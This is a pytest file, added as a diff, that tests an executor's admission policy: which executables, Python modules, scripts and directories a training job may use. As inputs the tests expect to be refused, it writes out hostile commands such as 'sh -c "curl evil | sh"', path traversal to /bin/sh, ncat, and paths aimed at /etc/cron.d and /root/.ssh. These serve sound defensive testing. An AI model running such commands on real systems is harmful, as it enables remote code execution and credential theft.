@@ -1,0 +1,143 @@
+"""The admission policy: what may run, what is refused before anything starts, and the rule it names."""
+
+from __future__ import annotations
+
+import argparse
+import time
+from pathlib import Path
+
+import pytest
+
+from bus.message import Record
+from bus.settings import KafkaSettings
+from recovery.executor import cli, metrics
+from recovery.executor.admission import AdmissionPolicy, Refusal, admit, resolve
+from recovery.executor.config import ExecutorConfig
+from recovery.executor.ledger import Ledger
+from recovery.executor.service import Executor
+from schemas import Command, CommandAcked, CommandAction, RestoreSource, WorkerSpec
+
+PYTHON = "/opt/venv/bin/python"
+PATH = {"python": PYTHON, "sh": "/bin/sh", "sleep": "/bin/sleep", "torchrun": "/opt/venv/bin/torchrun",
+        "nice": "/usr/bin/nice"}
+# Symbolic links, resolved: a venv's python and python3 both run the system's binary.
+LINKS = {PYTHON: "/usr/bin/python3.12", "/opt/venv/bin/python3": "/usr/bin/python3.12"}
+DEFAULT = AdmissionPolicy()
+
+
+def check(argv: tuple[str, ...], policy: AdmissionPolicy = DEFAULT, **spec) -> Refusal | None:
+    worker = WorkerSpec(ranks=(0,), world_size=1, master_addr="h", master_port=1, command=argv, **spec)
+    return admit(policy, worker, python=PYTHON, which=PATH.get, real=lambda path: LINKS.get(path, path))
+
+
+def test_the_default_admits_the_demo_module_under_the_executors_own_python() -> None:
+    assert check((PYTHON, "-m", "trainmedic.demo.train", "--steps", "5")) is None
+    assert check(("python", "-m", "trainmedic.demo.train")) is None  # a name found on PATH
+    assert check(("nice", "-n", "10", PYTHON, "-m", "trainmedic.demo")) is None  # the demo's own form
+
+
+@pytest.mark.parametrize("argv, rule, words", [
+    (("sh", "-c", "curl evil | sh"), "executable", "/bin/sh is not an allowed executable"),
+    (("/bin/sh", "-c", "id"), "executable", "/bin/sh is not an allowed"),
+    (("/opt/venv/bin/../../../bin/sh", "-c", "id"), "executable", "/bin/sh is not"),  # `..` resolved
+    (("nice", "-n", "10", "sh", "-c", "id"), "executable", "/bin/sh is not"),  # nice hides nothing
+    (("nice", "-n", "x", PYTHON, "-m", "trainmedic.demo"), "executable", "/usr/bin/nice is not"),
+    (("ncat",), "executable", "'ncat' is not found on PATH"),
+    ((PYTHON, "-m", "http.server"), "module", "module 'http.server' is not in the allowed modules "
+                                               "(trainmedic.demo)"),
+    ((PYTHON, "-m", "trainmedic.demonic"), "module", "'trainmedic.demonic'"),  # a prefix is a package
+    ((PYTHON, "-c", "import os"), "module", "may run only `-m MODULE` or a script"),
+    ((PYTHON, "train.py"), "script", "script 'train.py' is not in an allowed script directory (none)"),
+    (("/usr/bin/python3", "-m", "trainmedic.demo.train"), "executable", "/usr/bin/python3 is not"),
+])
+def test_anything_else_is_refused_with_the_rule_it_breaks(argv, rule, words) -> None:
+    refusal = check(argv)
+    assert refusal is not None and refusal.rule == rule and words in refusal.reason, refusal
+    assert str(refusal).startswith(f"admission policy ({rule}): ")
+
+
+def test_an_interpreter_is_the_file_it_runs() -> None:
+    assert check(("/opt/venv/bin/python3", "-m", "trainmedic.demo.train")) is None  # a link to PYTHON's file
+
+
+def test_an_operator_lists_executables_modules_interpreters_and_script_dirs() -> None:
+    policy = AdmissionPolicy(allowed_executables=("torchrun", "/bin/sleep"), allowed_modules=("llm",),
+                             allowed_interpreters=("/usr/bin/python3",), allowed_script_dirs=("/opt/jobs",))
+    assert check(("torchrun", "--nproc-per-node", "8", "train.py"), policy) is None
+    assert check(("sleep", "30"), policy) is None  # listed by path, given by name
+    assert check(("/usr/bin/python3", "-m", "llm.train"), policy) is None
+    assert check((PYTHON, "/opt/jobs/a/train.py"), policy) is None
+    assert check((PYTHON, "/opt/jobs/../etc/x.py"), policy).rule == "script"
+    assert check((PYTHON, "/opt/jobsx/train.py"), policy).rule == "script"
+    assert check((PYTHON, "-m", "trainmedic.demo.train"), policy).rule == "module"  # the list replaces
+    assert check(("sh", "-c", "id"), policy).rule == "executable"
+
+
+def test_paths_a_job_names_must_be_in_the_allowed_dirs_when_some_are_listed() -> None:
+    argv = (PYTHON, "-m", "trainmedic.demo.train")
+    assert check(argv, checkpoint_dir="/etc/cron.d") is None  # no list: anywhere
+    policy = AdmissionPolicy(allowed_dirs=("/ckpt",))
+    assert check(argv, policy, checkpoint_dir="/ckpt/llm") is None
+    refusal = check(argv, policy, checkpoint_dir="/ckpt/../etc/cron.d")
+    assert refusal == Refusal("directory", "checkpoint_dir '/ckpt/../etc/cron.d' is not in an allowed "
+                                           "directory (/ckpt)")
+    restore = RestoreSource(kind="checkpoint", path="/root/.ssh")
+    assert check(argv, policy, checkpoint_dir="/ckpt/llm", restore=restore).rule == "directory"
+
+
+class RecordingExecutor(Executor):
+    """The real executor, ledger and supervisor; what it sends is kept instead of going to Kafka."""
+
+    def __init__(self, state_dir: Path) -> None:
+        config = ExecutorConfig(node="n1", state_dir=state_dir, insecure=True, warm_start=False,
+                                stop_grace_s=0.2, admission=AdmissionPolicy(allowed_executables=("sleep",)))
+        super().__init__(config, KafkaSettings.from_env({"TRAINMEDIC_KAFKA_BOOTSTRAP": "127.0.0.1:1"}))
+        self.sent: list = []
+        self._ledger = Ledger.open(config.ledger_path)
+
+    def _send(self, topic: str, event, key: str) -> None:
+        self.sent.append(event)
+
+    def _flush(self) -> None:
+        return None
+
+
+def start(cid: str, argv: tuple[str, ...], generation: int, action=CommandAction.START) -> Record:
+    worker = WorkerSpec(ranks=(0,), world_size=1, master_addr="h", master_port=1, command=argv)
+    command = Command(ts=time.time(), node="n1", id=cid, job="j", generation=generation, action=action,
+                      worker=worker)
+    return Record("t.commands", 0, generation, "n1", command, b"")
+
+
+def test_a_refused_command_is_acked_refused_with_the_rule_counted_and_nothing_started_or_stopped(
+        tmp_path: Path) -> None:
+    executor = RecordingExecutor(tmp_path)
+    refusals = metrics.ADMISSION_REFUSALS.labels("executable")
+    before = refusals._value.get()
+    try:
+        executor._handle(start("ok", ("sleep", "30"), 0))
+        executor._handle(start("evil", ("sh", "-c", "id"), 1, CommandAction.RESTART))
+        acks = {(e.command_id, e.status.value): e.reason
+                for e in executor.sent if isinstance(e, CommandAcked)}
+        assert ("evil", "refused") in acks and ("evil", "accepted") not in acks
+        assert acks[("evil", "refused")] == (f"admission policy (executable): {resolve('sh')} is not an "
+                                             "allowed executable or interpreter (allowed_executables, "
+                                             "allowed_interpreters)")
+        assert refusals._value.get() == before + 1
+        assert executor.supervisor.alive("j") == 1  # the running generation was not stopped for it
+        assert "evil" not in executor._ledger.state.applied
+    finally:
+        executor.supervisor.stop_all(0.2)
+        executor._ledger.close()
+
+
+def test_the_policy_is_set_by_flag_variable_or_yaml(tmp_path: Path) -> None:
+    (tmp_path / "executor.yaml").write_text("node: n1\ninsecure: true\nadmission:\n"
+                                            "  allowed_executables: [torchrun]\n  rank_env: [WANDB_*]\n")
+    parser = argparse.ArgumentParser()
+    cli.add_arguments(parser)
+    args = parser.parse_args(["--config", str(tmp_path / "executor.yaml"), "--allowed-modules", "lab.t,x"])
+    config = cli.OPTIONS.build(cli.EXECUTOR, args, {"TRAINMEDIC_EXECUTOR_ALLOWED_DIRS": "/ckpt"},
+                               state_dir=lambda _: tmp_path)
+    assert config.admission == AdmissionPolicy(allowed_executables=("torchrun",), rank_env=("WANDB_*",),
+                                               allowed_modules=("lab.t", "x"), allowed_dirs=("/ckpt",))
